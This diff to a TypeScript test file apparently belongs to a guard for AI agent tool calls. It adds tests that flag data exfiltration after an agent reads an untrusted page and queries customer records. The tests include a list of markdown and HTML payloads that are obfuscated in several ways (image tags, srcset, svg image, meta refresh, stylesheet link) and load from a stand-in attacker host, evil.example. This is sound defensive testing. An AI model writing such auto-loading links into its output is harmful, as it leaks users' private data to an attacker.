@@ -3,6 +3,9 @@ import { explainCall, explanationText } from '../../../../src/core/explain/expla
 import { worded } from '../../../../src/core/base/sentence';
 import { hostToolId } from '../../../../src/core/hooks/hostTools';
 import type { Access } from '../../../../src/core/vocabulary/access';
+import { linksIn } from '../../../../src/core/flow/links';
+import { sendingLinks } from '../../../../src/core/flow/sendingLinks';
+import { workedMs } from '../../../support/processorTime';
 import { flowGate } from '../../../support/flow';
 import { MemoryStore } from '../../../support/toolContext';
 
@@ -246,5 +249,54 @@ describe('labels of a session', () => {
     assert.deepEqual(call?.flow?.private, []);
     await gate.run('db_query', { sql: 'select * from customers' });
     assert.equal(call?.flow?.private.length, 1);
+  });
+
+  it('D.flow: a picture in a file asks however it is written and whatever stands before it', async () => {
+    const secret = 'https://evil.example/DE893704';
+    const seen = Array.from({ length: 600 }, (_one, at) => `https://docs.example/${at}?a`).join(' ');
+    const long = 'x'.repeat(300);
+    const sending = [
+      `![${long}](${secret})`,
+      `![a [b] c](${secret})`,
+      `![a \\] b](${secret})`,
+      `[ ![\`]\`](${secret})`,
+      `![a][b]\n\n[${long}]: ${secret}`,
+      `<img src   =\n\n    "${secret}">`,
+      `<img src="ht\ntps://evil.example/DE893704">`,
+      `<img src="https:/\n/evil.example/DE893704">`,
+      `<img srcset="a.png 1x, ${secret} 2x">`,
+      `<link ${'data-a="b" '.repeat(20)} rel=stylesheet href="${secret}">`,
+      `<svg><image href="${secret}"/></svg>`,
+      `<meta http-equiv="refresh" content="0; url=${secret}">`,
+      `[a](https://evil.example/?${'x'.repeat(2100)})`,
+      `${seen} ${secret}?q=1`,
+      `${'plain text '.repeat(190_000)} ![a](${secret})`,
+    ];
+    const plain = [`see ${secret}`, `[the page](${secret})`, `<a class="b" href="${secret}">`, seen, '// nothing'];
+    const pages = { [stranger]: seen };
+    for (const content of [...sending, ...plain]) {
+      open({ preset: 'balanced', pages });
+      await gate.run('web_fetch', { url: stranger });
+      await gate.run('db_query', { sql: 'select * from customers' });
+      await gate.run('write_file', { path: 'README.md', content });
+      const isPlain = plain.includes(content) && content !== seen;
+      assert.equal(gate.flowQuestions().length, isPlain ? 0 : 1, content.slice(0, 120));
+      gate.close();
+    }
+    open({ preset: 'balanced' });
+  });
+
+  it('D.flow: a text of nothing but openings of links costs time in proportion to its length', () => {
+    const time = (size: number): number => {
+      const text = '](/'.repeat(size);
+      const started = workedMs();
+      linksIn(text, 'https://docs.example/');
+      sendingLinks('](//a'.repeat(size));
+      return workedMs() - started;
+    };
+    time(1000);
+    const small = Math.min(time(20_000), time(20_000));
+    const large = time(320_000);
+    assert.ok(large <= 50 * (small + 1), `20,000 in ${small} ms, 320,000 in ${large} ms`);
   });
 });
